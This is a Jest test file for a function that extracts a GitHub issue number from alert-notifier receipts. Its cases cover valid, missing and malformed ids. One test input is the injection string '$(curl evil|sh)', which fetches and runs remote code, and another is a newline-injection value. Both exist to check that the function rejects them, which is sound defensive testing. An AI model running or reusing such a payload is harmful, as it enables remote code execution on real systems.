import { expect, test } from '@jest/globals'
import type { Dispatch, Receipt } from '@tocsin/notifier'
import { issueOf } from './issue.ts'

const issues: [what: string, kind: string, id: string | undefined, expected: string | undefined][] = [
  ['an issue', 'github-issue', '42', '42'],
  ['an issue that is not open yet', 'github-issue', undefined, undefined],
  ['a message elsewhere', 'discord', '42', undefined],
  ['a command', 'github-issue', '$(curl evil|sh)', undefined],
  ['a second line', 'github-issue', '42\nevil', undefined],
  ['no number of GitHub', 'github-issue', '042', undefined],
  ['what is too long for one', 'github-issue', '1'.repeat(16), undefined]
]
test.each(issues)('the issue of an alert: %s', (_, kind, id, expected) => {
  const messages = [{ outlet: { kind: 'discord' } }, { outlet: { kind } }] as unknown as Dispatch[]
  const receipts = [{}, { remote: { id, url: 'https://github.com/octo/app/issues/42' } }] as unknown as Receipt[]
  expect(issueOf(messages, receipts)).toBe(expected)
})
